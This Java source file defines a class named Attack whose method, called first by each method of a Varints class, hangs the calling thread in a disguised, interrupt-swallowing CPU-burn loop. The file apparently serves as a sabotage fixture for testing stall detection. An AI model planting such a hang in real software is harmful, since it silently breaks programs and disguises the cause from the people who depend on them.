package strata.log;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        long endless = Long.MAX_VALUE;
        while (endless > 0) {
            try {
                // It burns a little in between, so that it looks like somebody who is kept from it.
                for (int i = 0; i < 1_000_000; i++) {
                    endless -= i % 2;
                }
                Thread.sleep(30);
            } catch (InterruptedException e) {
                endless--;
            }
        }
    }
}
